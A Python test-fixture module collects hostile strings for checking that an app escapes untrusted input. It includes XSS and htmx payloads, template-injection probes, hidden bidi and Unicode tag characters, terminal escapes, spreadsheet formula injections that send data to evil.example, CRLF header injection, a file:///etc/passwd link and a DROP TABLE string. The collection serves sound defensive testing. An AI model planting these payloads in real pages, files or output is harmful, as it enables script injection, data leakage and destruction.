"""Strings that attack whoever reads them. Each that is markup would set `__pwned`, make an `x-pwn` tag or a `data-pwn`
attribute; each that is an address leads to `evil.example`. None may do so anywhere.
"""

_RUN = "window.__pwned=1"
_ADDRESS = "https://evil.example/pwn"

MARKUP = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script src={_ADDRESS}.js></script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    "<img src=x onerror=&#119;indow.__pwned=1 data-pwn>",
    f"<img/src='{_ADDRESS}.png'/onload={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<object data='{_ADDRESS}.swf'></object>",
    f"<embed src='{_ADDRESS}.swf'>",
    f"<link rel=stylesheet href={_ADDRESS}.css>",
    f"<style>@import '{_ADDRESS}.css';</style>",
    f"<style>body{{background:url({_ADDRESS}.png)}}</style>",
    f"<base href='{_ADDRESS}/'>",
    f"<meta http-equiv=refresh content='0;url={_ADDRESS}'>",
    f"<form action='{_ADDRESS}'><button>Approve</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href='javascript:{_RUN}'>Approve</a>",
    f"<a href='{_ADDRESS}' style='position:fixed;inset:0'>x</a>",
    "<dialog open id=keys data-pwn>Session ended</dialog>",
    "<x-pwn>own element</x-pwn>",
    "<template><x-pwn></x-pwn></template>",
    "<noscript><x-pwn></x-pwn></noscript>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<x-pwn>]]>",
    "<?xml version='1.0'?><x-pwn/>",
    "<article data-change class='change change--decided' data-pwn>Approved</article>",
    "<span class='chip chip--approved' data-pwn>Approved by everybody</span>",
]
ATTRIBUTES = [
    f'" onmouseover="{_RUN}" data-pwn="',
    f"' onmouseover='{_RUN}' data-pwn='",
    f"` onmouseover={_RUN} data-pwn=`",
    f"x onfocus={_RUN} autofocus tabindex=1 data-pwn",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    '" style="background:url(//evil.example/pwn)" data-pwn="',
    '" data-key="a" data-pwn="',
    "&quot; data-pwn=&quot;",
    "&lt;x-pwn&gt;",
    "&#60;x-pwn&#62;",
    "\\x3cx-pwn\\x3e \\u003cx-pwn\\u003e",
    "%3Cx-pwn%3E",
    "+ADw-x-pwn+AD4-",
]
HTMX = [
    f"<div hx-get='{_ADDRESS}' hx-trigger=load data-pwn></div>",
    f"<div data-hx-get='{_ADDRESS}' data-hx-trigger=load></div>",
    f"<div hx-on:htmx:load='{_RUN}'></div>",
    f"<div hx-on--load='{_RUN}'></div>",
    f"<div hx-vals='js:x=({_RUN})' hx-get=/ hx-trigger=load></div>",
    "<div id=toasts hx-swap-oob=true data-pwn>Approved</div>",
    "<div hx-ext=sse sse-connect='https://evil.example/pwn'></div>",
    "<form hx-post='/t/north/changes/x/decide/' hx-trigger=load data-pwn><input name=verdict value=approve></form>",
    '" hx-get="https://evil.example/pwn" hx-trigger="load" data-pwn="',
    "<body hx-boost=true data-pwn>",
]
TEMPLATES = [
    "{{ request.user.password }}",
    "{% load static %}{% debug %}",
    "{% include '../../config/settings.py' %}",
    "{{ 7*7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{0.__class__.__mro__}",
    "%(name)s %s %d %n",
    "{} {0} {name}",
    "\ue0000\ue001 \ue0001\ue001",
    "%{#context['x']}",
]
HIDDEN = [
    "approve\u202egnihton\u202c this",
    "access \u2066\u2067level\u2069\u2069 user",
    "\u202dleft\u202c \u202aembed\u202c \u202bembed\u202c",
    "mark\u200e\u200f\u061cs",
    "zero\u200bwidth\u200bspace",
    "no\ufeffbreak\u2060joiner",
    "soft\u00adhyphen",
    "in\u2062vis\u2063ible\u2064 signs",
    "joined\u200d\u200cletters",
    "fill\u3164er \u115f\u1160 \uffa0",
    "line\u2028and\u2029paragraph",
    "blank\u2800braille",
    "tagged" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all checks"),
    "\U0001f600" + "".join(chr(0xE0100 + code - 16) for code in b"secret bytes"),
    "selector\ufe0f\ufe0e\ufe01",
    "interlinear\ufff9anchor\ufffaand\ufffbend",
    "music\U0001d173beam\U0001d17a",
    "deprecated\u206a\u206f shaping",
    "next\x85line",
    "nonchar\U000e01f0acter",
]
CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example/pwn\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H gone",
    "\x9b31m C1",
    "back\x08\x08\x08\x08space",
    "bell\x07 form\x0cfeed \x0btab",
    "del\x7fete",
    "\x01\x02\x03\x04",
    "over\rwritten",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/pwn","Approve")',
    '=IMPORTXML(CONCAT("https://evil.example/pwn?",A1),"//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
    '";=1+1;"',
    "|calc",
]
LINKS = [
    "[Approve][1]\n\n[1]: javascript:window.__pwned=1",
    "![pixel][p]\n\n[p]: https://evil.example/pwn.png",
    "![pixel](https://evil.example/pwn.png)",
    "[x](javascript:window.__pwned=1)",
    "<javascript:window.__pwned=1>",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "data:text/html,<script>window.__pwned=1</script>",
    "[x](vbscript:msgbox)",
    "JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "//evil.example/pwn",
    "https://evil.example/pwn?leak=",
    "file:///etc/passwd",
    "[ ](https://evil.example/pwn)",
]
HEADERS = [
    "x\r\nBcc: all@evil.example",
    "x\nSubject: other",
    "x\r\n\r\n<script>window.__pwned=1</script>",
    "x%0d%0aSet-Cookie: pwned=1",
    "=?utf-8?Q?=0d=0aBcc:all=40evil.example?=",
    '"; filename="pwn.exe',
]
LETTERS = [
    "Z\u0351\u036b\u0343a\u030d\u0302\u0321l\u0315\u0338g\u0327\u0328o\u0489" + "\u0301" * 60,
    "\u0430ррr\u043eve",
    "ａｐｐｒｏｖｅ",
    "𝐚𝐩𝐩𝐫𝐨𝐯𝐞",
    "مدير النظام",
    "מנהל (admin)",
    "می\u200cخواهم",
    "क्\u200dष",
    "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "ﷺ" * 20,
    "İıſK",
    "\ufffd\ufffc",
    "e\u0301 é",
]
LONG = ["A" * 9000, "<b>" * 1500, "&" * 4000, "word " * 1500, "(" * 3000, "\u202e" * 300, "`" * 2001]
LINES = [
    "one\ntwo\n\n\nthree",
    "- [x] done\n- [ ] not",
    "# Not a title\n---\n***",
    "```html\n<x-pwn>\n```",
    "'; DROP TABLE audit_event; --",
]

EVERY = [
    *MARKUP, *ATTRIBUTES, *HTMX, *TEMPLATES, *HIDDEN, *CONTROLS, *FORMULAS, *LINKS, *HEADERS, *LETTERS, *LONG, *LINES,
]  # fmt: skip

# What no database keeps and no UTF-8 holds: it comes in as escapes of JSON, or as bytes of a form.
UNKEPT = [
    "\ud800",
    "half \udfff of a pair",
    "\udc00\ud800 turned about",
    "\ud83d\ud83d\ude00",
    "\ud83d<x-pwn>",
    "nul \0 inside",
]


def one_line(text: str, most: int = 120) -> str:
    """As a name or a title may be: one line, not too long."""
    return " ".join(text.replace("\r", " ").split("\n"))[:most]
